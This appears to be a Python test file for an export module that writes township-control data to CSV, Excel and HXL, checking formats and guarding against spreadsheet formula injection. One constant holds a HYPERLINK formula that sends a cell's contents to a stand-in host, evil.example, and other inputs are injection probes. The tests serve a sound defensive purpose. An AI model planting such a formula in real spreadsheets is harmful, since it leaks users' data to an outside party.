"""CSV, Excel and HXL: days and codes as they are, nothing that a spreadsheet runs, and every change told."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from typing import TYPE_CHECKING, Any

import hxl
import openpyxl
import pandas as pd
import pytest

import checkered
import exported
import layered
import made
from mapper.outputs.exports import csv_tables, xlsx

if TYPE_CHECKING:
    from openpyxl.workbook import Workbook

    from mapper.outputs.exports.make import Made

SUBJECTS = ("slice", "history", "changes", "reports")
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"see")'
TAKEN = made.report("2024-02-20", "eao", pcode="MMR012002", report_id="R1")


def content(found: Made, suffix: str) -> bytes:
    (name,) = [name for name in found.files if name.endswith(suffix)]
    return found.files[name]


def csv_rows(found: Made) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content(found, ".csv").decode(), newline="")))


def book_of(found: Made) -> Workbook:
    return openpyxl.load_workbook(io.BytesIO(content(found, ".xlsx")))


def sheet_rows(book: Workbook, name: str) -> list[dict[str, Any]]:
    header, *rows = book[name].iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


def hostile(form: str, text: str) -> Made:
    report = made.report("2024-02-20", "eao", pcode="MMR012002", report_id="R1", finding=text)
    return exported.export(form, "reports", made.package(report))


def test_a_row_of_csv_is_what_it_should_be() -> None:
    found = content(exported.export("csv", "slice", made.package(TAKEN)), ".csv").decode()
    lines = found.split("\n")
    assert lines[0].startswith("pcode,name,name_en,name_my,district,state,state_pcode,date,map_class,label,status,")
    assert lines[2] == (
        "MMR012002,Town 2,Town 2,မြို့ 2,Sittwe,Rakhine,MMR012,2024-12-31,eao.reported,Ethnic armed organisation,eao,AA,"
        "medium,reported,false,2024-02-20,day,2024-02-20,false,,false,,,township_scope,false,R1,https://paper.example/page,,11000.0"
    )
    assert (len(lines), lines[-1]) == (6, "")
    assert "\r" not in found
    assert not found.startswith("\ufeff")


def test_the_tags_stand_below_the_header_and_libhxl_chooses_by_them() -> None:
    found = content(exported.export("hxl", "history", made.package(TAKEN)), ".hxl.csv")
    source = hxl.data(io.BytesIO(found))
    tags = [column.display_tag for column in source.columns]
    for tag in ("#adm3+code", "#adm3+name", "#status+control", "#group+holders", "#date+start", "#date+end"):
        assert tag in tags
    held = list(source.with_rows("#status+control=eao").with_rows("#adm3+code=MMR012002"))
    assert [(row.get("#date+start"), row.get("#group+holders")) for row in held] == [("2024-02-20", "AA")]


def test_figures_of_people_have_the_tag_of_displaced_people_or_of_refugees() -> None:
    layers, about = layered.embedded("displacement")
    found = {layer.name: {column.hxl for column in layer.columns} for layer in layers}
    assert "#affected+idps" in found["displacement"]
    assert "#affected+refugees" in found["refugees"]
    assert about.title.startswith("Displaced people")


@pytest.mark.parametrize("text", [FORMULA, "+1", "-1+1", "@SUM(A1)", "\t=1", "'=1"])
@pytest.mark.parametrize("form", ["csv", "hxl"])
def test_what_a_spreadsheet_would_run_is_made_harmless_and_that_is_told(form: str, text: str) -> None:
    found = hostile(form, text)
    (*_, row) = csv_rows(found)
    assert row["finding"] == f"'{text}"
    told = "An apostrophe stands before text that a spreadsheet would run as a formula: in reports finding of R1."
    assert told in found.about.choices
    assert told in str(exported.sidecar(found))


def test_nothing_is_told_where_nothing_was_changed() -> None:
    for form in ("csv", "hxl", "xlsx"):
        assert hostile(form, "plain, with = and 'quotes'").about.choices == ()


@pytest.mark.parametrize(
    "text", [FORMULA, "{=1}", "00123", "1-2", "2024-02-20", "1E5", "TRUE", "https://evil.example", "<r><t>x</t></r>"]
)
def test_a_text_in_excel_is_text_whatever_it_says(text: str) -> None:
    book = book_of(hostile("xlsx", text))
    ((cell,),) = [
        [cell for cell in row if book["reports"].cell(1, cell.column).value == "finding"]
        for row in book["reports"].iter_rows(min_row=2)
    ]
    assert (cell.value, cell.data_type, cell.hyperlink) == (text, "s", None)
    assert not any(cell.data_type == "f" for sheet in book for row in sheet.iter_rows() for cell in row)


def test_text_that_is_too_long_or_holds_control_characters_is_told() -> None:
    found = hostile("xlsx", "a" * 40_000)
    assert "Text of more than 32767 characters is cut: in reports finding of R1." in found.about.choices
    (row,) = sheet_rows(book_of(found), "reports")
    assert (len(row["finding"]), row["finding"][-9:]) == (32_767, "... (cut)")
    for form in ("csv", "xlsx"):
        signs = hostile(form, "bell\x07")
        assert any(line.startswith("Control characters, which the format cannot hold") for line in signs.about.choices)


def test_excel_has_codes_as_text_days_as_days_and_truths_as_truths() -> None:
    rows = sheet_rows(book_of(exported.export("xlsx", "slice", made.package(TAKEN))), "slice")
    taken = next(row for row in rows if row["pcode"] == "MMR012002")
    assert (taken["since"], taken["stale"], taken["area_km2"]) == (pd.Timestamp("2024-02-20"), False, 11_000)
    assert (taken["holders"], taken["contested_until"]) == ("AA", None)


def test_codes_that_look_like_numbers_keep_their_zeros() -> None:
    package = made.package(TAKEN)
    package.townships["state_pcode"] = "0012"
    rows = sheet_rows(book_of(exported.export("xlsx", "slice", package)), "slice")
    assert {row["state_pcode"] for row in rows} == {"0012"}
    assert {row["state_pcode"] for row in csv_rows(exported.export("csv", "slice", package))} == {"0012"}


def test_excel_says_what_columns_mean_what_it_is_and_who_said_so() -> None:
    book = book_of(exported.export("xlsx", "slice", made.package(TAKEN)))
    assert book.sheetnames == ["slice", "columns", "about", "sources"]
    meanings = {row["column"]: (row["meaning"], row["hxl"]) for row in sheet_rows(book, "columns")}
    assert meanings["since"] == ("Since when it has been so, as far as is known.", "#date+since")
    assert list(meanings) == [cell.value for cell in book["slice"][1]]
    about = {(row["what"], row["value"]) for row in sheet_rows(book, "about")}
    assert {
        ("as of", "2024-12-31"),
        ("as known on", "2026-01-01"),
        ("licence", "CC-BY-4.0"),
        ("version", "1.0"),
    } <= about
    assert any(what == "caveats" and "Schematic boundaries" in value for what, value in about)
    (source,) = sheet_rows(book, "sources")
    assert (source["publisher"], source["url"]) == ("A paper", "https://paper.example/page")
    assert (book.properties.title, book.properties.created) == (
        "Who holds which township, 2024-12-31 (A made-up country)",
        pd.Timestamp("2026-01-01"),
    )


def test_a_workbook_holds_every_table_and_tells_them_apart() -> None:
    layers, about = layered.checkered_layers(*SUBJECTS)
    (found,) = xlsx.write(layers, about, stem="x").values()
    book = openpyxl.load_workbook(io.BytesIO(found))
    assert book.sheetnames == [*SUBJECTS, "columns", "about", "sources"]
    assert book["slice"].freeze_panes == "A2"
    assert book["slice"].max_row == len(checkered.PCODES) + 1
    files = csv_tables.write(layers, about, stem="x")
    assert list(files) == [f"x-{name}.csv" for name in SUBJECTS]


def test_a_workbook_has_no_part_that_runs_or_reaches_out() -> None:
    with zipfile.ZipFile(io.BytesIO(content(hostile("xlsx", FORMULA), ".xlsx"))) as archive:
        for name in archive.namelist():
            assert not re.search(r"vba|externalLink|connections|activeX", name)
            assert b"<f>" not in archive.read(name)
            assert archive.getinfo(name).date_time == (1980, 1, 1, 0, 0, 0)


def test_pandas_reads_the_same_table_from_csv_and_excel() -> None:
    layers, about = layered.embedded("slice")
    (text,) = csv_tables.write(layers, about, stem="x").values()
    (book,) = xlsx.write(layers, about, stem="x").values()
    left = pd.read_csv(io.BytesIO(text), dtype=str, keep_default_na=False)
    right = pd.read_excel(io.BytesIO(book), sheet_name="slice", dtype=str, keep_default_na=False)
    assert len(left) == 330
    for column in ("pcode", "name_my", "status", "holders", "report_ids", "state_pcode"):
        assert list(left[column]) == list(right[column])
    assert list(left["since"]) == [text[:10] for text in right["since"]]
